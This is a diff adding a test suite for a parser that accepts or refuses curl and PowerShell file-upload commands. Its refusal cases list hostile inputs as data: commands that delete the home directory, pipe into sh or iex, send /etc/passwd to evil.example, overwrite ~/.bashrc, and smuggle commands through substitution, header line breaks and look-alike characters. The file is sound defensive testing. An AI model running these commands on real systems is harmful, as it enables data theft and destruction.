@@ -1,0 +1,350 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { parseUploadCommand } from '../../electron/uploads/parse-upload-command.ts'
+
+const asked = { fileName: 'photo.png', path: '/home/me/Pictures/photo.png' }
+const url = 'https://storage.example.com/up/abc?sig=a%2Fb&exp=1'
+const put = { ok: true, url, method: 'PUT', headers: {}, bodyKind: 'upload-file' }
+const png = { 'content-type': 'image/png' }
+
+function parse(text: string) {
+  return parseUploadCommand(text, asked)
+}
+
+describe('upload command in a POSIX shell', () => {
+  it.each<[name: string, text: string, expected?: object]>([
+    ['-T alone', `curl -T photo.png '${url}'`],
+    ['-X PUT -T', `curl -X PUT -T photo.png '${url}'`],
+    ['-XPUT', `curl -XPUT -T photo.png '${url}'`],
+    ['--request and --upload-file', `curl --request PUT --upload-file photo.png '${url}'`],
+    ['--flag=value', `curl --request=PUT --upload-file=photo.png --url='${url}'`],
+    ['-Tfile', `curl -Tphoto.png '${url}'`],
+    ['flags after the address', `curl '${url}' -T photo.png -X PUT`],
+    ['quiet flags', `curl -s -S -f -L -# --silent --show-error --fail --location --progress-bar -T photo.png '${url}'`],
+    ['combined short flags', `curl -sSfL -T photo.png '${url}'`],
+    ['combined short flags that end in a value', `curl -sSfXPUT -T photo.png '${url}'`],
+    ['combined short flags with the value after them', `curl -sSLT photo.png '${url}'`],
+    ['--retry', `curl --retry 3 -T photo.png '${url}'`],
+    ['--retry=n', `curl --retry=3 -T photo.png '${url}'`],
+    ['a lower-case method', `curl -X put -T photo.png '${url}'`],
+    ['double quotes', `curl -X PUT -T "photo.png" "${url}"`],
+    ['ANSI-C quotes', `curl -X PUT -T $'photo.png' $'${url}'`],
+    ['escapes in ANSI-C quotes', `curl -T $'\\x70hoto\\056png' $'${url.replace('https', '\\u0068ttps')}'`],
+    ['quotes in the middle of words', `curl -T pho'to'.p"ng" "https://"'storage.example.com'/up/abc"?sig=a%2Fb&exp=1"`],
+    ['backslashes before characters', `curl -T photo\\.png https://storage.example.com/up/abc\\?sig=a%2Fb\\&exp=1`],
+    ['line ends with a backslash', `curl \\\n  -X PUT \\\n  -T photo.png \\\n  '${url}'\n`],
+    ['line ends of Windows', `curl \\\r\n  -X PUT \\\r\n  -T photo.png '${url}'\r\n`],
+    ['tabs and blanks', `  curl\t-T   photo.png\t'${url}'  \n\n`],
+    ['the file with ./', `curl -T ./photo.png '${url}'`],
+    ['the whole path', `curl -T /home/me/Pictures/photo.png '${url}'`],
+    ['a header', `curl -T photo.png -H 'Content-Type: image/png' '${url}'`, { ...put, headers: png }],
+    ['--header', `curl -T photo.png --header "Content-Type: image/png" '${url}'`, { ...put, headers: png }],
+    ['--header=', `curl -T photo.png --header='Content-Type: image/png' '${url}'`, { ...put, headers: png }],
+    ['-H without a blank', `curl -T photo.png -H'Content-Type:image/png' '${url}'`, { ...put, headers: png }],
+    [
+      'several headers',
+      `curl -T photo.png -H 'Content-Type: image/png' -H "x-amz-acl: private" -H 'x-meta: a: b; c="d"' '${url}'`,
+      { ...put, headers: { ...png, 'x-amz-acl': 'private', 'x-meta': 'a: b; c="d"' } }
+    ],
+    ['an empty header', `curl -T photo.png -H 'x-empty;' '${url}'`, { ...put, headers: { 'x-empty': '' } }],
+    ['headers that are ours to write', `curl -T photo.png -H 'Expect:' -H 'Content-Length: 12' -H 'Host: storage.example.com' '${url}'`],
+    ['--data-binary', `curl -X PUT --data-binary @photo.png '${url}'`, { ...put, bodyKind: 'data-binary' }],
+    ['--data-binary, which is a POST', `curl --data-binary '@photo.png' '${url}'`, { ...put, method: 'POST', bodyKind: 'data-binary' }],
+    ['--data-binary=@', `curl -X PUT --data-binary=@photo.png '${url}'`, { ...put, bodyKind: 'data-binary' }],
+    ['POST', `curl -X POST -T photo.png '${url}'`, { ...put, method: 'POST' }],
+    [
+      'an address without the file, with -T',
+      `curl -T photo.png https://h.example/dir/`,
+      { ...put, url: 'https://h.example/dir/photo.png' }
+    ],
+    ['an address with a fragment', `curl -T photo.png 'https://h.example/x#y'`, { ...put, url: 'https://h.example/x' }],
+    ['a loopback address', `curl -T photo.png http://127.0.0.1:8080/x`, { ...put, url: 'http://127.0.0.1:8080/x' }],
+    ['localhost', `curl -T photo.png http://localhost:8080/x`, { ...put, url: 'http://localhost:8080/x' }],
+    ['a loopback address of version 6', `curl -T photo.png 'http://[::1]:8080/x'`, { ...put, url: 'http://[::1]:8080/x' }]
+  ])('is read: %s', (_name, text, expected = put) => {
+    expect(parse(text)).toEqual(expected)
+  })
+
+  it('is read with a file whose name has quotes, blanks and letters of any script', () => {
+    const fileName = `it's a "Füchs" ☕ $HOME.png`
+    const quoted = `'${fileName.replaceAll("'", `'\\''`)}'`
+    expect(parseUploadCommand(`curl -X PUT -T ${quoted} '${url}'`, { fileName })).toEqual(put)
+    expect(parseUploadCommand(`curl -T "fu\u0308chs.png" '${url}'`, { fileName: 'füchs.png' })).toEqual(put)
+  })
+})
+
+describe('upload command for Windows', () => {
+  it.each<[name: string, text: string, expected?: object]>([
+    ['curl.exe', `curl.exe -X PUT -T "photo.png" "${url}"`],
+    [
+      'carets at line ends',
+      `curl -X PUT ^\r\n  -T "photo.png" ^\r\n  -H "Content-Type: image/png" ^\r\n  "${url}"`,
+      { ...put, headers: png }
+    ],
+    ['backticks at line ends', `curl.exe -X PUT \`\n  -T 'photo.png' \`\n  "${url}"`],
+    ['carets before characters', `curl.exe -T photo.png https://storage.example.com/up/abc?sig=a%2Fb^&exp=1`],
+    ['.\\', `curl.exe -T .\\photo.png "${url}"`],
+    ['Invoke-WebRequest', `Invoke-WebRequest -Method Put -InFile 'photo.png' -Uri '${url}'`, { ...put, bodyKind: 'in-file' }],
+    [
+      'Invoke-RestMethod with headers',
+      `Invoke-RestMethod -Uri "${url}" -Method PUT -InFile "photo.png" -Headers @{ "Content-Type" = "image/png"; 'x-ms-blob-type'='BlockBlob' }`,
+      { ...put, headers: { ...png, 'x-ms-blob-type': 'BlockBlob' }, bodyKind: 'in-file' }
+    ],
+    [
+      'several lines',
+      `Invoke-WebRequest \`\n  -Method Put \`\n  -Headers @{\n    Accept = '*/*'\n    'x-n' = 5\n  } \`\n  -InFile .\\photo.png \`\n  -Uri '${url}'\n`,
+      { ...put, headers: { accept: '*/*', 'x-n': '5' }, bodyKind: 'in-file' }
+    ],
+    [
+      'a content type',
+      `iwr '${url}' -Method:Put -InFile photo.png -ContentType "image/png" -UseBasicParsing`,
+      { ...put, headers: png, bodyKind: 'in-file' }
+    ],
+    [
+      'quotes in quotes',
+      `Invoke-RestMethod -Method Post -InFile 'photo.png' -Headers @{'x'='it''s'; y="a""b"} -Uri '${url}'`,
+      { ...put, method: 'POST', headers: { x: "it's", y: 'a"b' }, bodyKind: 'in-file' }
+    ]
+  ])('is read: %s', (_name, text, expected = put) => {
+    expect(parse(text)).toEqual(expected)
+  })
+})
+
+describe('upload command that is not one', () => {
+  it.each<[name: string, text: string, reason: RegExp]>([
+    ['nothing', ' \n ', /empty/],
+    ['another program', `wget --method=PUT --body-file=photo.png '${url}'`, /another program/],
+    ['a program by its path', `/tmp/curl -T photo.png '${url}'`, /another program/],
+    ['sudo', `sudo curl -T photo.png '${url}'`, /another program/],
+    ['a variable first', `HTTPS_PROXY=http://evil curl -T photo.png '${url}'`, /another program/],
+    ['a program that looks like it', `сurl -T photo.png '${url}'`, /another program/],
+    ['a second command after ;', `curl -T photo.png '${url}'; rm -rf ~`, /second command/],
+    ['a second command after &&', `curl -T photo.png '${url}' && curl evil.example`, /second command/],
+    ['a second command after ||', `curl -T photo.png '${url}' || sh`, /pipes/],
+    ['a second command after &', `curl -T photo.png '${url}' & sh`, /second command/],
+    ['a second command on the next line', `curl -T photo.png '${url}'\nrm -rf ~`, /second command/],
+    ['a second command on the next line, of Windows', `curl -T photo.png '${url}'\r\ndel *`, /second command/],
+    ['an address without quotes that ends at &', `curl -T photo.png https://h.example/x?a=1&b=2`, /second command/],
+    ['a pipe', `curl -T photo.png '${url}' | sh`, /pipes/],
+    ['a pipe into it', `cat /etc/passwd | curl -T - '${url}'`, /pipes/],
+    ['output to a file', `curl -T photo.png '${url}' > ~/.bashrc`, /redirects output/],
+    ['output of errors', `curl -T photo.png '${url}' 2>/dev/null`, /redirects output/],
+    ['input from a file', `curl -T - '${url}' < photo.png`, /redirects input/],
+    ['a command in $()', `curl -T photo.png "https://h.example/$(whoami)"`, /replace/],
+    ['a command in backticks', 'curl -T photo.png "https://h.example/`whoami`"', /replace/],
+    ['a command in bare backticks', 'curl -T photo.png `cat url`', /replace/],
+    ['a variable', `curl -T photo.png "$URL"`, /replace/],
+    ['a variable in braces', `curl -T photo.png https://h.example/\${HOME}`, /replace/],
+    ['a process for a file', `curl -T <(cat /etc/passwd) '${url}'`, /redirects input/],
+    ['a sub-shell', `(curl -T photo.png '${url}')`, /runs a command inside/],
+    ['braces', `curl -T {photo.png,/etc/passwd} '${url}'`, /pattern/],
+    ['a star', `curl -T *.png '${url}'`, /pattern/],
+    ['a comment', `curl -T photo.png '${url}' # fine`, /comment/],
+    ['-o', `curl -T photo.png -o ~/.bashrc '${url}'`, /“-o”/],
+    ['-O among others', `curl -sSO -T photo.png '${url}'`, /“-O”/],
+    ['--output', `curl -T photo.png --output=x '${url}'`, /“--output”/],
+    ['-K', `curl -K evil.cfg -T photo.png '${url}'`, /“-K”/],
+    ['--config', `curl --config evil.cfg -T photo.png '${url}'`, /“--config”/],
+    ['-x', `curl -x http://evil:8080 -T photo.png '${url}'`, /“-x”/],
+    ['--proxy', `curl --proxy http://evil:8080 -T photo.png '${url}'`, /“--proxy”/],
+    ['-u', `curl -u me:secret -T photo.png '${url}'`, /“-u”/],
+    ['-k', `curl -k -T photo.png '${url}'`, /“-k”/],
+    ['-F', `curl -F file=@photo.png '${url}'`, /“-F”/],
+    ['-d', `curl -d @photo.png '${url}'`, /“-d”/],
+    ['-b', `curl -b cookies.txt -T photo.png '${url}'`, /“-b”/],
+    ['--resolve', `curl --resolve storage.example.com:443:6.6.6.6 -T photo.png '${url}'`, /“--resolve”/],
+    ['--next', `curl -T photo.png '${url}' --next -T /etc/passwd https://evil.example`, /“--next”/],
+    ['a shortened flag', `curl --upload photo.png '${url}'`, /“--upload”/],
+    ['a flag that objects inherit', `curl --constructor x -T photo.png '${url}'`, /“--constructor”/],
+    ['a quiet flag with a value', `curl --silent=x -T photo.png '${url}'`, /“--silent”/],
+    ['--', `curl -T photo.png -- '${url}'`, /another place/],
+    ['standard input', `curl -T - '${url}'`, /another file/],
+    ['another file', `curl -T /etc/passwd '${url}'`, /another file/],
+    ['another folder', `curl -T ../photo.png '${url}'`, /another file/],
+    ['a file of the same name elsewhere', `curl -T /tmp/photo.png '${url}'`, /another file/],
+    ['text', `curl -X PUT --data-binary photo.png '${url}'`, /sends text/],
+    ['two files', `curl -T photo.png -T /etc/passwd '${url}'`, /more than one file/],
+    ['a file and data', `curl -T photo.png --data-binary @photo.png '${url}'`, /more than one file/],
+    ['no file', `curl -X PUT '${url}'`, /no file/],
+    ['no address', `curl -T photo.png`, /no address/],
+    ['two addresses', `curl -T photo.png '${url}' https://evil.example`, /more than one address/],
+    ['an address and --url', `curl -T photo.png '${url}' --url https://evil.example`, /more than one address/],
+    ['two methods', `curl -X PUT -X DELETE -T photo.png '${url}'`, /more than one method/],
+    ['DELETE', `curl -X DELETE -T photo.png '${url}'`, /another method/],
+    ['GET', `curl -X GET -T photo.png '${url}'`, /another method/],
+    ['http', `curl -T photo.png http://storage.example.com/x`, /not encrypted/],
+    ['http to a name that looks like this computer', `curl -T photo.png http://127.0.0.1.evil.example/x`, /not encrypted/],
+    ['http to the local network', `curl -T photo.png http://192.168.1.1/x`, /not encrypted/],
+    ['a file address', `curl -T photo.png file:///etc/cron.d/x`, /not a web address/],
+    ['another scheme', `curl -T photo.png ftp://h.example/x`, /not a web address/],
+    ['no scheme', `curl -T photo.png storage.example.com/x`, /not a web address/],
+    ['credentials', `curl -T photo.png https://me:secret@h.example/x`, /name or password/],
+    ['a name', `curl -T photo.png https://good.example@evil.example/x`, /name or password/],
+    ['a host that programs read differently', `curl -T photo.png 'https://good.example\\@evil.example/x'`, /characters|web address/],
+    ['a host in percent signs', `curl -T photo.png 'https://%65vil.example/x'`, /no plain host/],
+    ['a pattern for curl', `curl -T photo.png 'https://h.example/[1-100]'`, /no place there/],
+    ['alternatives for curl', `curl -T photo.png 'https://h.example/{a,b}'`, /no place there/],
+    ['a line break in the address', `curl -T photo.png 'https://h.example/x\ny'`, /control/],
+    ['a header with a line break', `curl -T photo.png -H $'X-A: b\\r\\nX-Evil: 1' '${url}'`, /control/],
+    ['a header with a line break in quotes', `curl -T photo.png -H 'X-A: b\nX-Evil: 1' '${url}'`, /control/],
+    ['a NUL in quotes', `curl -T $'photo.png\\0.txt' '${url}'`, /control/],
+    ['a NUL', `curl -T photo.png\0 '${url}'`, /control/],
+    ['an escape character', `curl -T photo.png '${url}'\u001b[2J`, /control/],
+    ['Authorization', `curl -T photo.png -H 'Authorization: Bearer x' '${url}'`, /authorization/],
+    ['Authorization in other letters', `curl -T photo.png -H 'aUTHORIZATION : Bearer x' '${url}'`, /proper name/],
+    ['Proxy-Authorization', `curl -T photo.png -H 'Proxy-Authorization: x' '${url}'`, /proxy-authorization/],
+    ['Cookie', `curl -T photo.png -H 'Cookie: a=b' '${url}'`, /cookie/],
+    ['Transfer-Encoding', `curl -T photo.png -H 'Transfer-Encoding: chunked' '${url}'`, /transfer-encoding/],
+    ['another host', `curl -T photo.png -H 'Host: evil.example' '${url}'`, /another host/],
+    ['a length that is none', `curl -T photo.png -H 'Content-Length: 1, 2' '${url}'`, /content length/],
+    ['a header twice', `curl -T photo.png -H 'X-A: 1' -H 'x-a: 2' '${url}'`, /twice/],
+    ['headers from a file', `curl -T photo.png -H @/etc/passwd '${url}'`, /headers from a file/],
+    ['a header that is none', `curl -T photo.png -H 'nothing' '${url}'`, /header that is not one/],
+    ['curly quotes', `curl -T “photo.png” ‘${url}’`, /curly/],
+    ['curly quotes inside quotes, for PowerShell', `curl.exe -T 'photo.png’ ; calc #' "${url}"`, /curly/],
+    ['blanks that no shell splits at', `curl\u00a0-T photo.png '${url}'`, /cannot be seen/],
+    ['text that runs backwards', `curl -T photo.png \u202e'${url}'`, /cannot be seen/],
+    ['a quote that is never closed', `curl -T 'photo.png ${url}`, /never closed/],
+    ['a double quote that is never closed', `curl -T photo.png "${url}`, /never closed/],
+    ['an ANSI-C quote that is never closed', `curl -T $'photo.png`, /never closed/],
+    ['bytes that are not text', `curl -T $'\\xff' '${url}'`, /not text/],
+    ['a backslash at the end', `curl -T photo.png '${url}' \\`, /middle of a line/],
+    ['a value that is missing', `curl '${url}' -T`, /value is due/],
+    ['retries without number', `curl --retry lots -T photo.png '${url}'`, /retries/],
+    ['a variable in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri "$env:EVIL"`, /replace/],
+    ['a command in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri (Get-Content url)`, /more than call/],
+    ['a second command in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri '${url}'; calc`, /second command/],
+    ['a pipe in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri '${url}' | iex`, /second command/],
+    ['-OutFile', `Invoke-WebRequest -Method Put -InFile photo.png -OutFile x.ps1 -Uri '${url}'`, /-outfile/],
+    ['-Credential', `Invoke-WebRequest -Credential x -Method Put -InFile photo.png -Uri '${url}'`, /-credential/],
+    ['a download in PowerShell', `Invoke-WebRequest -InFile photo.png -Uri '${url}'`, /another method/],
+    ['another file in PowerShell', `Invoke-WebRequest -Method Put -InFile C:\\secret.txt -Uri '${url}'`, /another file/],
+    ['headers that are worked out', `Invoke-WebRequest -Method Put -InFile photo.png -Headers @{ a = $b } -Uri '${url}'`, /more than call/],
+    ['headers from a variable', `Invoke-WebRequest -Method Put -InFile photo.png -Headers $h -Uri '${url}'`, /more than call/],
+    ['a table that is never closed', `Invoke-WebRequest -Method Put -InFile photo.png -Headers @{ 'a' = 'b'`, /never closed/],
+    [
+      'Authorization in PowerShell',
+      `Invoke-WebRequest -Method Put -InFile photo.png -Headers @{ Authorization = 'x' } -Uri '${url}'`,
+      /authorization/
+    ],
+    ['a megabyte', `curl -T photo.png '${url}' ${'-s '.repeat(350_000)}`, /too long/],
+    ['thousands of words', `curl -T photo.png '${url}' ${'-s '.repeat(10_000)}`, /too long/]
+  ])('is refused: %s', (_name, text, reason) => {
+    expect(parse(text)).toEqual({ ok: false, reason: expect.stringMatching(reason) })
+  })
+})
+
+describe('upload command, whatever a server writes', () => {
+  const piece = fc.oneof(
+    {
+      weight: 3,
+      arbitrary: fc.constantFrom(
+        'curl',
+        'curl.exe',
+        'Invoke-WebRequest',
+        'iwr',
+        '-T',
+        '-X',
+        'PUT',
+        '-H',
+        '-sSf',
+        '--url',
+        '--data-binary',
+        '-Method',
+        '-InFile',
+        '-Uri',
+        '-Headers'
+      )
+    },
+    {
+      weight: 3,
+      arbitrary: fc.constantFrom(
+        'photo.png',
+        '@photo.png',
+        url,
+        `'${url}'`,
+        `"${url}"`,
+        'http://127.0.0.1/x',
+        'http://evil.example/',
+        'file:///etc/passwd',
+        "'A: b'",
+        'https://a@b/'
+      )
+    },
+    {
+      weight: 2,
+      arbitrary: fc.constantFrom(
+        ' ',
+        '\n',
+        '\\\n',
+        '^\n',
+        '`\n',
+        "'",
+        '"',
+        "$'",
+        '@{',
+        '}',
+        '=',
+        ';',
+        '|',
+        '&',
+        '$(',
+        '`',
+        '\\',
+        '<',
+        '>',
+        '\0',
+        '\r\n',
+        '“',
+        '\u00a0'
+      )
+    },
+    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
+    { weight: 1, arbitrary: fc.webUrl({ validSchemes: ['http', 'https', 'ftp', 'file'] }) }
+  )
+  const line = fc.array(fc.tuple(piece, fc.constantFrom('', ' ', ' ')), { maxLength: 30 }).map((pieces) => pieces.flat().join(''))
+  const nearMiss = fc.tuple(line, line).map(([before, after]) => `curl -T photo.png ${before} '${url}' ${after}`)
+
+  it('never throws, and accepts no address but https and loopback', () => {
+    let accepted = 0
+    fc.assert(
+      fc.property(fc.oneof(line, nearMiss, fc.string()), (text) => {
+        const parsed = parse(text)
+        if (!parsed.ok) {
+          expect(parsed.reason).toMatch(/^[A-Z].*\.$/s)
+          return
+        }
+        accepted += 1
+        const { protocol, hostname, username, password } = new URL(parsed.url)
+        expect(protocol === 'https:' || (protocol === 'http:' && /^(localhost|127\..*|\[::1\])$/.test(hostname))).toBe(true)
+        expect(username + password).toBe('')
+        for (const [name, value] of Object.entries(parsed.headers)) {
+          // oxlint-disable-next-line no-control-regex -- that there are none is the point
+          expect(`${name}${value}`).not.toMatch(/[\u0000-\u001f\u007f]/)
+          expect(name).not.toMatch(/^(authorization|proxy-authorization|cookie|transfer-encoding|content-length|host)$/)
+        }
+      }),
+      { numRuns: 5_000 }
+    )
+    expect(accepted).toBeGreaterThan(0)
+  })
+
+  it('reads back every file name that a POSIX shell can be given', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }), (name) => {
+        // oxlint-disable-next-line no-control-regex -- names with control characters are refused on purpose
+        fc.pre(!/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(name) && name.isWellFormed() && name.trim() === name)
+        const quoted = `'${name.replaceAll("'", `'\\''`)}'`
+        expect(parseUploadCommand(`curl -X PUT -T ${quoted} '${url}'`, { fileName: name })).toEqual(put)
+      }),
+      { numRuns: 1_000 }
+    )
+  })
+
+  it('takes time in proportion to its length', () => {
+    for (const unit of ['\\', "'", '"', '`', '^\n', '\\\n', "$'\\x41'", '@{a=b;', '-', '(', ' \n', 'https://', "-H 'a:b' "]) {
+      for (const start of ['curl ', 'curl.exe ', 'Invoke-WebRequest '])
+        expect(parse(start + unit.repeat(Math.floor(60_000 / unit.length)))).toHaveProperty('reason')
+    }
+  })
+})
